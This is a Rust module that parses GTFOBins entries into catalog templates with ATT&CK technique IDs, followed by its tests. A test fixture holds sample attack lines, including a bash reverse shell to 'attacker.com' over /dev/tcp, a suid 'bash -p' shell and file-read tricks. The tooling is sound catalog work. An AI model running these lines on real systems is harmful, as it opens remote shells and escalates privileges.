//! GTFOBins (`_gtfobins/<binary>` entries, `_data/functions.yml`): one template per example, i.e. per
//! (binary, function, example), because each example is one procedure (`bash` reads a file in two different
//! ways) and the function decides the technique.
//!
//! Scope "gtfobins"; id `<binary>#<function>#<n>` (n is the 1-based position among the function's examples),
//! name `<binary>: <function>`; techniques are the function's `mitre` list in `_data/functions.yml`; details:
//! binary, function and its label, the example's code, comment, contexts, what an `inherit` example inherits
//! from, the example's flags and peers (sender, receiver, listener, connector), the entry's comment and its
//! aliases.
//!
//! Upstream quirks survived (see QUIRKS.md, "GTFOBins (new schema)"):
//! - entry files have no extension and names such as `R`, `g++`, `ld.so`: the binary is the file name, never
//!   split at a dot (an old-style `bash.md` still gives `bash`);
//! - entries are YAML front matter framed by `---` and the document-end marker `...` (old entries: `---` and
//!   `---` followed by Markdown): only the framed part is read;
//! - alias-only entries (`alias: apt-get`) give no template; their names are listed in the target's `aliases`
//!   when the target is in the same import, and otherwise ignored: an alias holds no procedure of its own, and a
//!   partial import (the corpus has about 60% of upstream) is not an error;
//! - `contexts` values are mostly null ("same code in this context") or an override map
//!   (`{code, shell, list, comment}`): null stays null, maps are kept as JSON;
//! - `_data/functions.yml` uses anchors/aliases (`&tty`, `*blind`) and boolean mapping keys (`true:`/`false:`):
//!   read as a YAML value, never as string-keyed maps; when it is missing from the import, templates still
//!   parse, without techniques, and nothing fails;
//! - `inherit` examples point at another binary with `from:`; `functions.yml` gives `inherit` no techniques
//!   (what is inherited depends on the other binary's functions), so these templates have none either, and
//!   `inherits_from` names the binary.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};
use serde_yaml_ng::Value as YamlValue;

use super::template_support::{
    SeenIds, key_text, non_blank, scalar_text, template_record, texts_of, yaml_to_json,
};
use crate::record::{CatalogRecord, FileFailure, Parsed, SourceFile, technique_ids};
use domain::test_case::TemplateRef;

const SCOPE: &str = "gtfobins";

/// Whether a file found by a directory walk belongs to this source: every file in a `_gtfobins` folder (their
/// names have no extension) and `_data/functions.yml`, which holds the ATT&CK ids.
pub fn accepts(path: &Path) -> bool {
    let Some(file_name) = path.file_name().and_then(|name| name.to_str()) else {
        return false;
    };
    let parent_name = path.parent().and_then(Path::file_name);
    if file_name.starts_with('.') {
        return false;
    }
    parent_name.is_some_and(|parent| parent == "_gtfobins")
        || (file_name == "functions.yml" && parent_name.is_some_and(|parent| parent == "_data"))
}

/// Parses every file of one import; a file that cannot be used is reported in [`Parsed::failures`].
pub fn parse(files: &[SourceFile]) -> Parsed {
    let mut parsed = Parsed::default();
    let mut functions = BTreeMap::new();
    let mut entries = Vec::new();
    for file in files {
        match file_role(&file.path) {
            FileRole::Functions => match read_functions(&file.bytes) {
                Ok(read) => functions.extend(read),
                Err(error) => parsed.failures.push(FileFailure::new(&file.path, error)),
            },
            FileRole::OtherData => {}
            FileRole::Entry(binary) => match read_entry(&file.bytes) {
                Ok(entry) => entries.push((file, binary, entry)),
                Err(error) => parsed.failures.push(FileFailure::new(&file.path, error)),
            },
        }
    }

    // Aliases first: an alias file may come after its target.
    let binaries: std::collections::HashSet<&str> = entries
        .iter()
        .filter(|(_, _, entry)| entry.functions.is_some())
        .map(|(_, binary, _)| binary.as_str())
        .collect();
    let mut aliases: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for (_, binary, entry) in &entries {
        if let Some(target) = non_blank(entry.alias.clone()) {
            let target = target.trim().to_owned();
            if binaries.contains(target.as_str()) && &target != binary {
                aliases.entry(target).or_default().push(binary.clone());
            }
        }
    }
    for names in aliases.values_mut() {
        names.sort();
        names.dedup();
    }

    let mut seen = SeenIds::default();
    for (file, binary, entry) in entries {
        let binary_aliases = aliases.get(&binary).cloned().unwrap_or_default();
        let entry_comment = non_blank(entry.comment);
        for (function, examples) in entry.functions.unwrap_or_default() {
            let function_info = functions.get(&function);
            for (index, example) in examples.unwrap_or_default().into_iter().enumerate() {
                let Some(example) = example else { continue };
                let template = Template {
                    binary: &binary,
                    function: &function,
                    function_info,
                    number: index + 1,
                    example,
                    entry_comment: entry_comment.as_deref(),
                    aliases: &binary_aliases,
                };
                match template.record(&file.path, &mut seen) {
                    Ok(record) => parsed.records.push(record),
                    Err(error) => parsed.failures.push(FileFailure::new(&file.path, error)),
                }
            }
        }
    }
    parsed
}

/// Why a file, or one example in it, could not be used.
#[derive(Debug, thiserror::Error)]
enum GtfobinsError {
    #[error("the file is not UTF-8 text")]
    NotText,
    #[error("the file is empty")]
    Empty,
    #[error("not a GTFOBins entry: {0}")]
    Yaml(serde_yaml_ng::Error),
    #[error("not a GTFOBins entry: it has neither `functions` nor `alias`")]
    NeitherFunctionsNorAlias,
    #[error("not a GTFOBins functions file: {0}")]
    FunctionsYaml(serde_yaml_ng::Error),
    #[error("not a GTFOBins functions file: the top level is not a map of functions")]
    FunctionsShape,
    #[error("example {id:?} cannot name a template: {reason}")]
    InvalidId { id: String, reason: String },
    #[error("example {id} is already imported from {first_file}")]
    DuplicateId { id: String, first_file: String },
    #[error("example {id} could not be stored: {source}")]
    Details {
        id: String,
        source: serde_json::Error,
    },
}

/// What a file of the import is, by its path: upstream encodes the binary's name in the entry's file name.
enum FileRole {
    Functions,
    /// `_data/contexts.yml` and the like: definitions the templates do not need.
    OtherData,
    Entry(String),
}

fn file_role(path: &Path) -> FileRole {
    let file_name = path
        .file_name()
        .map(|name| name.to_string_lossy().into_owned())
        .unwrap_or_default();
    let in_data = path
        .parent()
        .and_then(Path::file_name)
        .is_some_and(|parent| parent == "_data");
    if file_name == "functions.yml"
        && (in_data
            || path
                .parent()
                .is_none_or(|parent| parent.as_os_str().is_empty()))
    {
        return FileRole::Functions;
    }
    if in_data {
        return FileRole::OtherData;
    }
    // The old schema had `bash.md`; names like `ld.so` have a dot that is part of the name.
    let binary = file_name
        .strip_suffix(".md")
        .unwrap_or(&file_name)
        .to_owned();
    FileRole::Entry(binary)
}

/// A function's label and ATT&CK ids as `_data/functions.yml` gives them.
#[derive(Debug, Clone, Default)]
struct FunctionInfo {
    label: Option<String>,
    attack_ids: Vec<String>,
}

/// Reads `_data/functions.yml` as a YAML value: anchors resolve, and the boolean keys under `extra` never
/// have to become strings.
fn read_functions(bytes: &[u8]) -> Result<BTreeMap<String, FunctionInfo>, GtfobinsError> {
    let value: YamlValue =
        serde_yaml_ng::from_slice(bytes).map_err(GtfobinsError::FunctionsYaml)?;
    let Some(mapping) = value.as_mapping() else {
        return Err(GtfobinsError::FunctionsShape);
    };
    Ok(mapping
        .iter()
        .map(|(name, definition)| {
            let info = FunctionInfo {
                label: definition.get("label").and_then(scalar_text),
                attack_ids: definition.get("mitre").map(texts_of).unwrap_or_default(),
            };
            (key_text(name), info)
        })
        .collect())
}

/// The YAML between the opening `---` and the closing `...` (or `---`, before an old entry's Markdown body);
/// the whole text when it does not start with `---`.
fn front_matter(text: &str) -> &str {
    let mut lines = text.split_inclusive('\n');
    let Some(first) = lines.next() else {
        return text;
    };
    if first.trim_end() != "---" {
        return text;
    }
    let start = first.len();
    let mut end = start;
    for line in lines {
        let marker = line.trim_end();
        if marker == "..." || marker == "---" {
            return &text[start..end];
        }
        end += line.len();
    }
    &text[start..]
}

fn read_entry(bytes: &[u8]) -> Result<RawEntry, GtfobinsError> {
    let text = std::str::from_utf8(bytes).map_err(|_| GtfobinsError::NotText)?;
    let yaml = front_matter(text.strip_prefix('\u{feff}').unwrap_or(text));
    if yaml.trim().is_empty() {
        return Err(GtfobinsError::Empty);
    }
    let entry: RawEntry = serde_yaml_ng::from_str(yaml).map_err(GtfobinsError::Yaml)?;
    if entry.functions.is_none() && entry.alias.is_none() {
        return Err(GtfobinsError::NeitherFunctionsNorAlias);
    }
    Ok(entry)
}

/// One entry file's front matter.
#[derive(Debug, Deserialize)]
struct RawEntry {
    #[serde(default)]
    alias: Option<String>,
    #[serde(default)]
    comment: Option<String>,
    #[serde(default)]
    functions: Option<BTreeMap<String, Option<Vec<Option<RawExample>>>>>,
}

#[derive(Debug, Deserialize)]
struct RawExample {
    #[serde(default)]
    code: Option<String>,
    #[serde(default)]
    comment: Option<String>,
    // Null per context means "the same code"; a map overrides it.
    #[serde(default)]
    contexts: Option<BTreeMap<String, YamlValue>>,
    #[serde(default)]
    from: Option<String>,
    #[serde(default)]
    version: Option<String>,
    #[serde(default)]
    binary: Option<bool>,
    #[serde(default)]
    blind: Option<bool>,
    #[serde(default)]
    tty: Option<bool>,
    #[serde(default)]
    sender: YamlValue,
    #[serde(default)]
    receiver: YamlValue,
    #[serde(default)]
    listener: YamlValue,
    #[serde(default)]
    connector: YamlValue,
}

/// One example with what it needs from its entry and from `functions.yml`.
struct Template<'a> {
    binary: &'a str,
    function: &'a str,
    function_info: Option<&'a FunctionInfo>,
    number: usize,
    example: RawExample,
    entry_comment: Option<&'a str>,
    aliases: &'a [String],
}

impl Template<'_> {
    fn record(self, file: &Path, seen: &mut SeenIds) -> Result<CatalogRecord, GtfobinsError> {
        let raw_id = format!("{}#{}#{}", self.binary, self.function, self.number);
        let id = match TemplateRef::parse(&raw_id) {
            Ok(template_ref) => String::from(template_ref),
            Err(error) => {
                return Err(GtfobinsError::InvalidId {
                    id: raw_id,
                    reason: error.to_string(),
                });
            }
        };
        if let Err(first_file) = seen.claim(&id, file) {
            return Err(GtfobinsError::DuplicateId { id, first_file });
        }
        let info = self.function_info.cloned().unwrap_or_default();
        let example = self.example;
        let details = ExampleDetails {
            binary: self.binary.to_owned(),
            function: self.function.to_owned(),
            function_label: info.label,
            example_number: self.number,
            code: example.code,
            comment: non_blank(example.comment),
            contexts: example
                .contexts
                .unwrap_or_default()
                .iter()
                .map(|(context, value)| (context.clone(), yaml_to_json(value)))
                .collect(),
            inherits_from: non_blank(example.from).map(|from| from.trim().to_owned()),
            version: non_blank(example.version),
            handles_binary_data: example.binary,
            blind: example.blind,
            tty: example.tty,
            sender: yaml_to_json(&example.sender),
            receiver: yaml_to_json(&example.receiver),
            listener: yaml_to_json(&example.listener),
            connector: yaml_to_json(&example.connector),
            entry_comment: self.entry_comment.map(str::to_owned),
            aliases: self.aliases.to_vec(),
            attack_ids: info.attack_ids.clone(),
        };
        let name = format!("{}: {}", self.binary, self.function);
        let techniques = technique_ids(info.attack_ids.iter().map(String::as_str));
        template_record(SCOPE, id.clone(), name, techniques, &details)
            .map_err(|source| GtfobinsError::Details { id, source })
    }
}

/// The details of a GTFOBins example template.
#[derive(Debug, Serialize)]
struct ExampleDetails {
    binary: String,
    /// `shell`, `file-read`, `inherit`…
    function: String,
    function_label: Option<String>,
    /// 1-based position among the function's examples in the entry.
    example_number: usize,
    code: Option<String>,
    comment: Option<String>,
    /// Context name (`unprivileged`, `sudo`, `suid`, `capabilities`) → null when the example's code works as
    /// is there, or the override upstream gives (`{code, shell, list, comment}`).
    contexts: BTreeMap<String, serde_json::Value>,
    /// For `inherit` examples: the binary whose functions this one gains.
    inherits_from: Option<String>,
    version: Option<String>,
    /// Upstream `binary`: false when the data is altered on the way, so unfit for arbitrary binary content.
    handles_binary_data: Option<bool>,
    /// The commands run but their output is hidden.
    blind: Option<bool>,
    /// false when the shell is a dummy REPL rather than a real terminal.
    tty: Option<bool>,
    /// The attacker-side counterpart, by name (`http-server`) or inline (`{code, comment}`).
    sender: serde_json::Value,
    receiver: serde_json::Value,
    listener: serde_json::Value,
    connector: serde_json::Value,
    /// The entry's top-level comment, about the binary as a whole.
    entry_comment: Option<String>,
    /// Other names of this binary (alias-only entries in the same import).
    aliases: Vec<String>,
    /// The function's ATT&CK ids as `functions.yml` writes them, kept even when they are not valid ids.
    attack_ids: Vec<String>,
}

#[cfg(test)]
mod tests {
    use std::path::PathBuf;

    use proptest::prelude::*;
    use serde_json::json;

    use super::*;
    use crate::record::RecordKind;

    fn file(path: &str, text: &str) -> SourceFile {
        SourceFile {
            path: PathBuf::from(path),
            bytes: text.as_bytes().to_vec(),
        }
    }

    const FUNCTIONS: &str = "shell:
  label: Shell
  mitre:
  - T1059
  extra:
    tty: &tty
      false: The spawned shell is just a dummy REPL.
    blind: &blind
      true: The commands are executed but their output is hidden.

reverse-shell:
  label: Reverse shell
  mitre:
  - T1059
  - T1071
  extra:
    tty: *tty
    blind: *blind

file-read:
  label: File read
  mitre:
  - T1005

inherit:
  label: Inherit
  description: This executable can inherit functions from another.
";

    const BASH: &str = "---
comment: |-
  A shell.
functions:
  shell:
  - code: bash
    contexts:
      sudo:
      suid:
        code: bash -p
      unprivileged:
  file-read:
  - binary: false
    code: |-
      bash -c 'echo \"$(</path/to/input-file)\"'
    contexts:
      sudo:
  - code: |-
      history -r /path/to/input-file
      history
    comment: |-
      Only interactively.
    contexts:
      capabilities:
        list:
        - CAP_SETUID
  reverse-shell:
  - code: bash -i >& /dev/tcp/attacker.com/12345 0>&1
    listener: tcp-server
    tty: false
...
";

    const ALIAS: &str = "---\nalias: bash\n...\n";

    fn all() -> Parsed {
        parse(&[
            file("gtfobins/_data/functions.yml", FUNCTIONS),
            file("gtfobins/_gtfobins/bash", BASH),
            file("gtfobins/_gtfobins/sh", ALIAS),
        ])
    }

    fn find<'a>(parsed: &'a Parsed, id: &str) -> &'a CatalogRecord {
        parsed
            .records
            .iter()
            .find(|record| record.id == id)
            .unwrap_or_else(|| panic!("no {id}"))
    }

    #[test]
    fn each_example_is_one_template_with_the_functions_techniques() {
        let parsed = all();
        assert_eq!(parsed.failures, []);
        let mut ids: Vec<&str> = parsed
            .records
            .iter()
            .map(|record| record.id.as_str())
            .collect();
        ids.sort_unstable();
        assert_eq!(
            ids,
            [
                "bash#file-read#1",
                "bash#file-read#2",
                "bash#reverse-shell#1",
                "bash#shell#1"
            ]
        );
        let shell = find(&parsed, "bash#shell#1");
        assert_eq!(shell.kind, RecordKind::Template);
        assert_eq!(shell.scope, "gtfobins");
        assert_eq!(shell.name, "bash: shell");
        assert_eq!(shell.techniques, technique_ids(["T1059"]));
        assert_eq!(
            find(&parsed, "bash#reverse-shell#1").techniques,
            technique_ids(["T1059", "T1071"])
        );
        assert_eq!(
            find(&parsed, "bash#file-read#2").techniques,
            technique_ids(["T1005"])
        );
        assert_eq!(shell.details["function_label"], "Shell");
        assert_eq!(shell.details["attack_ids"], json!(["T1059"]));
    }

    #[test]
    fn contexts_keep_null_for_same_code_and_override_maps() {
        let parsed = all();
        let shell = &find(&parsed, "bash#shell#1").details;
        assert_eq!(
            shell["contexts"],
            json!({"sudo": null, "suid": {"code": "bash -p"}, "unprivileged": null})
        );
        let history = &find(&parsed, "bash#file-read#2").details;
        assert_eq!(
            history["contexts"],
            json!({"capabilities": {"list": ["CAP_SETUID"]}})
        );
        assert_eq!(history["comment"], "Only interactively.");
        assert_eq!(history["code"], "history -r /path/to/input-file\nhistory");
        assert_eq!(history["example_number"], 2);
        assert_eq!(
            find(&parsed, "bash#file-read#1").details["handles_binary_data"],
            false
        );
    }

    #[test]
    fn peers_flags_and_the_entry_comment_are_kept() {
        let parsed = all();
        let reverse = &find(&parsed, "bash#reverse-shell#1").details;
        assert_eq!(reverse["listener"], "tcp-server");
        assert_eq!(reverse["sender"], serde_json::Value::Null);
        assert_eq!(reverse["tty"], false);
        assert_eq!(reverse["entry_comment"], "A shell.");
        assert_eq!(reverse["binary"], "bash");
        assert_eq!(reverse["function"], "reverse-shell");
    }

    #[test]
    fn an_alias_only_entry_gives_no_template_and_is_listed_on_its_target() {
        let parsed = all();
        assert!(
            parsed
                .records
                .iter()
                .all(|record| record.details["binary"] == "bash")
        );
        assert!(
            parsed
                .records
                .iter()
                .all(|record| record.details["aliases"] == json!(["sh"]))
        );
        // Target absent from the import: the alias is ignored, nothing fails.
        let alone = parse(&[file("_gtfobins/sh", ALIAS)]);
        assert_eq!(alone, Parsed::default());
    }

    #[test]
    fn without_functions_yml_templates_parse_without_techniques() {
        let parsed = parse(&[file("gtfobins/_gtfobins/bash", BASH)]);
        assert_eq!(parsed.failures, []);
        assert_eq!(parsed.records.len(), 4);
        assert!(
            parsed
                .records
                .iter()
                .all(|record| record.techniques.is_empty())
        );
        assert!(
            parsed
                .records
                .iter()
                .all(|record| record.details["function_label"].is_null())
        );
    }

    #[test]
    fn inherit_examples_name_their_source_and_have_no_techniques() {
        let entry = "---\nfunctions:\n  inherit:\n  - code: apport-cli -f\n    from: less\n    contexts:\n      sudo:\n...\n";
        let parsed = parse(&[
            file("_data/functions.yml", FUNCTIONS),
            file("_gtfobins/apport-cli", entry),
        ]);
        assert_eq!(parsed.failures, []);
        let inherit = &parsed.records[0];
        assert_eq!(inherit.id, "apport-cli#inherit#1");
        assert_eq!(inherit.details["inherits_from"], "less");
        assert_eq!(inherit.techniques, []);
    }

    #[test]
    fn file_names_with_dots_and_symbols_are_binary_names() {
        let entry = "---\nfunctions:\n  shell:\n  - code: x\n...\n";
        let parsed = parse(&[
            file("_gtfobins/ld.so", entry),
            file("_gtfobins/g++", entry),
            file("_gtfobins/R", entry),
            file(
                "old/_gtfobins/awk.md",
                "---\nfunctions:\n  shell:\n  - code: awk\n---\n\nMarkdown *body*: not YAML\n",
            ),
        ]);
        assert_eq!(parsed.failures, []);
        let ids: Vec<&str> = parsed
            .records
            .iter()
            .map(|record| record.id.as_str())
            .collect();
        assert_eq!(
            ids,
            ["ld.so#shell#1", "g++#shell#1", "R#shell#1", "awk#shell#1"]
        );
    }

    #[test]
    fn crlf_and_no_final_newline_parse() {
        let entry = "---\r\nfunctions:\r\n  shell:\r\n  - code: \"x\\ty\"\r\n...";
        let parsed = parse(&[file("_gtfobins/x", entry)]);
        assert_eq!(parsed.failures, []);
        assert_eq!(parsed.records[0].details["code"], "x\ty");
    }

    #[test]
    fn broken_files_fail_alone() {
        let parsed = parse(&[
            file("_data/functions.yml", "- not\n- a map\n"),
            file("_gtfobins/empty", "---\n...\n"),
            file("_gtfobins/notes", "---\ntitle: x\n...\n"),
            file("_gtfobins/binary", "\u{0}\u{ff}"),
            file("_gtfobins/bash", BASH),
            file(
                "_data/contexts.yml",
                "sudo:\n  label: Sudo\n  extra:\n    true: x\n",
            ),
        ]);
        assert_eq!(parsed.records.len(), 4);
        let failed: Vec<&str> = parsed
            .failures
            .iter()
            .map(|failure| failure.file.as_str())
            .collect();
        assert_eq!(
            failed,
            [
                "_data/functions.yml",
                "_gtfobins/empty",
                "_gtfobins/notes",
                "_gtfobins/binary"
            ]
        );
    }

    #[test]
    fn accepts_entries_and_functions_yml_only() {
        assert!(accepts(Path::new("gtfobins/_gtfobins/bash")));
        assert!(accepts(Path::new("gtfobins/_gtfobins/ld.so")));
        assert!(accepts(Path::new("gtfobins/_data/functions.yml")));
        assert!(!accepts(Path::new("gtfobins/_data/contexts.yml")));
        assert!(!accepts(Path::new("gtfobins/_gtfobins/.gitkeep")));
        assert!(!accepts(Path::new("gtfobins/PROVENANCE.md")));
    }

    #[test]
    fn front_matter_stops_at_the_document_end_marker() {
        assert_eq!(front_matter("---\na: 1\n...\nrest"), "a: 1\n");
        assert_eq!(front_matter("---\na: 1\n---\nbody"), "a: 1\n");
        assert_eq!(front_matter("---\na: 1"), "a: 1");
        assert_eq!(front_matter("a: 1\n"), "a: 1\n");
        assert_eq!(front_matter(""), "");
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(256))]

        #[test]
        fn arbitrary_bytes_never_panic(
            entry in proptest::collection::vec(any::<u8>(), 0..512),
            functions in proptest::collection::vec(any::<u8>(), 0..256),
        ) {
            let _ = parse(&[
                SourceFile { path: PathBuf::from("_data/functions.yml"), bytes: functions },
                SourceFile { path: PathBuf::from("_gtfobins/x"), bytes: entry },
            ]);
        }

        #[test]
        fn mutations_of_valid_files_never_panic(
            position in 0usize..BASH.len(),
            length in 0usize..40,
            insert in "[ -~\n:\\-\\[\\]{}|>&*#'\".]{0,12}",
            functions_position in 0usize..FUNCTIONS.len(),
        ) {
            let mut entry = BASH.as_bytes().to_vec();
            let end = (position + length).min(entry.len());
            entry.splice(position..end, insert.bytes());
            let mut functions = FUNCTIONS.as_bytes().to_vec();
            let functions_end = (functions_position + length).min(functions.len());
            functions.splice(functions_position..functions_end, insert.bytes());
            let _ = parse(&[
                SourceFile { path: PathBuf::from("_data/functions.yml"), bytes: functions },
                SourceFile { path: PathBuf::from("_gtfobins/bash"), bytes: entry },
                SourceFile { path: PathBuf::from("_gtfobins/sh"), bytes: ALIAS.as_bytes().to_vec() },
            ]);
        }
    }
}
